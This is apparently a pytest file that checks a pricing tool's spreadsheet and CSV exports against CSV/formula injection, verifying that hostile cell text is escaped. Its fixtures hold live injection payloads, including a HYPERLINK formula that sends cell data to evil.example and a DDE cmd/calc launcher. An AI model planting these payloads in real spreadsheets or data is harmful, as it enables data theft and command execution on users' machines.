"""No text the project writes into a spreadsheet can run as a formula (issue 15); the workbook's
formulas are the product's own (issue 24).

OWASP's CSV-injection rule: a text cell starting with ``= + - @``, a tab or a carriage return is
prefixed with ``'``; characters a workbook cannot hold are removed. The hostile texts come in as a
user would put them: a scenario's description, a stage name in ``splits.csv``, a prospect's name.
Each workbook is opened again with openpyxl and every cell looked at.
"""

import csv
import io
import shutil

import openpyxl
import pytest
import yaml

from prepay_modeller.cli import main
from prepay_modeller.core.quote import quote
from prepay_modeller.inputs import paths
from prepay_modeller.inputs.terms import make_terms
from prepay_modeller.presentation import exports
from prepay_modeller.reports.runner import manifest_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B6,"Open terms")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CALC, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "bell\x07=1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_data(tmp_path, monkeypatch):
    """The article's data with a formula as a stage name."""
    data = tmp_path / "data"
    data.mkdir()
    for name in ("options.csv", "okr_template.csv", "brand.json"):
        shutil.copy(paths.DATA_DIR / name, data / name)
    (data / "splits.csv").write_text(
        f'quarter,stage,fixed,variable_max\n1,"{CALC.replace(chr(34), 2 * chr(34))}",0.9,0.2\n'
        "2,+Impact,0.6,0.8\n3,@Scale,0.6,0.8\n4,-Optimise,0.6,0.8\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("PREPAY_DATA_DIR", str(data))
    return data


def text_cells(path):
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def assert_safe_workbook(path):
    """Every text cell is text (never a formula); the workbook's formulas are the product's own
    (issue 24), and none of them holds a word of the hostile texts."""
    seen = 0
    for sheet, cell in text_cells(path):
        where = f"{sheet}!{cell.coordinate}"
        if cell.data_type == "f":
            for word in ("evil.example", "cmd|", "calc", "@SUM", "bell", "+1+1", "-2+3"):
                assert word not in str(cell.value), f"{where} runs {cell.value!r}"
            continue
        if isinstance(cell.value, str):
            seen += 1
            assert not cell.value.startswith(FORMULA_START), where
            assert "\x07" not in cell.value, where
    assert seen > 10  # the test looked at text cells


def test_an_exported_scenario_holds_no_formula(tmp_path, hostile_data, capsys):
    for n, text in enumerate(HOSTILE):
        scenario = tmp_path / f"s{n}.yaml"
        fields = {"name": "evil", "option": "prepay-12", "rate": 50000, "performance": 1,
                  "start": "2027-01-01", "description": text}  # fmt: skip
        scenario.write_text(yaml.safe_dump(fields), encoding="utf-8")
        out = tmp_path / f"s{n}.xlsx"
        assert main(["export", "--scenario", str(scenario), "--out", str(out)]) == 0, (
            capsys.readouterr().err
        )
        assert_safe_workbook(out)
        sheet = openpyxl.load_workbook(out)["Inputs"]
        shown = next(row[1].value for row in sheet.iter_rows() if row[0].value == "Description")
        # The description is kept, as text ('=...), less what a workbook cannot hold.
        expected = text.replace("\x07", "")
        expected = "'" + expected if expected.startswith(FORMULA_START) else expected
        assert shown.replace("\n", "\r") == expected.replace("\n", "\r"), text
        stages = [c.value for c in openpyxl.load_workbook(out)["Schedule"]["B"]]
        assert "'" + CALC in stages  # the stage name, shown as text


def test_the_app_workbook_and_csv_downloads_hold_no_formula(tmp_path, hostile_data):
    q = quote(make_terms(option="prepay-12", start="2027-01-01"))
    name, data = exports.workbook(q)
    (tmp_path / name).write_bytes(data)
    assert_safe_workbook(tmp_path / name)
    for make in (exports.schedule_csv, exports.invoices_csv):
        _, data = make(q)
        for row in csv.reader(io.StringIO(data.decode("utf-8"))):
            for cell in row:
                assert not cell.startswith(FORMULA_START), cell


def test_command_csv_output_holds_no_formula(hostile_data, capsys):
    for argv in (
        ["quote", "--option", "prepay-12", "--start", "2027-01-01"],
        ["compare", "--start", "2027-01-01"],
    ):
        assert main([*argv, "--format", "csv"]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        assert len(rows) > 1
        for row in rows:
            for cell in row:  # negative money is a number (-15600.00), never text
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert main(["quote", "--option", "prepay-12", "--start", "2027-01-01", "--format", "csv"]) == 0
    assert "'" + CALC in capsys.readouterr().out


def test_the_manifest_holds_no_formula():
    results = [
        {"row": n, "prospect": text, "status": "failed", "files": [], "error": text, "seconds": 0}
        for n, text in enumerate(HOSTILE, start=1)
    ]
    rows = list(csv.reader(io.StringIO(manifest_csv(results).decode("utf-8"), newline="")))
    for row in rows[1:]:
        assert len(row) == 6  # a carriage return does not break the row
        assert row[1].startswith("'") and row[4].startswith("'") or row[1].startswith("bell")
        assert "\x07" not in row[1]


# Issue 21: a bare carriage return split a row, and a formula behind a blank went through.
BEHIND_BLANKS = [" =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff@SUM(A1)", "\x1b=1+1", "\n-2+3",
                 " \t+1", "\uff1d1+1"]  # fmt: skip
SPLITTERS = ["\r=1+1", "a\r=1+1", "a\r\n=1+1", "a\n=1+1", 'a"\r=1+1', "\r"]


def _formula_like(cell: str) -> bool:
    """What a spreadsheet could run: a sign first, once blanks and invisibles are skipped."""
    import unicodedata

    rest = cell.lstrip()
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in ("Cc", "Cf")):
        rest = rest[1:]
    return rest.startswith(("=", "+", "-", "@", "\uff1d"))


@pytest.mark.parametrize("text", BEHIND_BLANKS + HOSTILE)
def test_a_formula_behind_blanks_or_controls_is_text(text):
    shown = exports.safe_text(text)
    assert shown.startswith("'") or not _formula_like(shown), repr(shown)


def test_every_cell_holding_a_line_end_or_a_quote_is_quoted():
    rows = [["name", "note"], *[[f"r{n}", text] for n, text in enumerate(SPLITTERS)]]
    text = exports.csv_rows(rows)
    # Read as a spreadsheet reads it: every row whole, with its text as it was (a cell starting
    # with a carriage return marked as text), none split into a row of its own.
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["name", "note"], *[[f"r{n}", "'" * t.startswith("\r") + t]
                                        for n, t in enumerate(SPLITTERS)]]  # fmt: skip


def test_scenarios_list_csv_keeps_each_row_whole(tmp_path, capsys):
    for n, text in enumerate(SPLITTERS + BEHIND_BLANKS):
        fields = {"name": f"s{n}", "option": "prepay-6", "rate": 50000, "performance": 1,
                  "start": "2027-01-01", "description": text}  # fmt: skip
        (tmp_path / f"s{n}.yaml").write_text(yaml.safe_dump(fields), encoding="utf-8")
    assert main(["scenarios", "list", "--dir", str(tmp_path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 1 + len(SPLITTERS + BEHIND_BLANKS)
    assert all(len(row) == len(rows[0]) for row in rows)
    assert [row[0] for row in rows[1:]] == sorted(row[0] for row in rows[1:])  # names, in order
    description = rows[0].index("description")
    assert all(not _formula_like(row[description]) for row in rows[1:])


def test_the_app_prospect_row_is_one_row():
    from prepay_modeller.app.proposal_panel import prospect_row
    from prepay_modeller.inputs.parameters import PROSPECT_COLUMNS

    data = prospect_row({"prospect": "Acme\r=1+1", "contact": " =HYPERLINK(1)", "rate": 50000})
    text = data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == PROSPECT_COLUMNS and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["prospect"] == "Acme\r=1+1" and row["contact"] == "' =HYPERLINK(1)"
    assert row["rate"] == "50000"
